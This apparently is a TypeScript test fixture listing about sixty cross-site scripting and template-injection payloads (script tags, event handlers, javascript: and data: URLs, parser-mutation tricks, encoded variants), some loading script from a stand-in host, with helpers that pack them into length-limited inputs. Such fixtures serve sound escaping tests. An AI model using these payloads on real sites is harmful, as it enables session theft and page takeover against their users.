/** The effect of each payload if any of it runs. */
const RUN = 'ran=1';

/** Texts that run as code if a text is interpreted as HTML, script, address or template. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//x.example/x.js></script>`,
  `<script>${RUN}//`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"`,
  `"><img src=x onerror=${RUN}>`,
  `'"><img src=x onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="https://x.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//x.example/x.css>`,
  `<style>@import '//x.example/x.css';</style>`,
  `<div style="background:url(javascript:${RUN})">x</div>`,
  `<x onclick=${RUN}>x</x>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `javascript:${RUN}`,
  `JAVASCRIPT://%0a${RUN}`,
  `data:text/html;base64,PHNjcmlwdD5yYW49MTwvc2NyaXB0Pg==`,
  `vbscript:${RUN}`,
  `https://x.example/"onmouseover="${RUN}`,
  `https://x.example/'><img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

/** All payloads, one per line, in texts of at most `max` characters. */
export function packed(max: number, separator = '\n'): string[] {
  const texts: string[] = [];
  let text = '';
  for (const payload of PAYLOADS) {
    if (payload.length > max) continue;
    const longer = text ? `${text}${separator}${payload}` : payload;
    if (longer.length > max) {
      texts.push(text);
      text = payload;
    } else text = longer;
  }
  return text ? [...texts, text] : texts;
}

/** One of the payloads with at most `max` characters, chosen by `index` in rotation. */
export function fitting(max: number, index: number): string {
  const short = PAYLOADS.filter(({ length }) => length <= max);
  return short[index % short.length] ?? '';
}
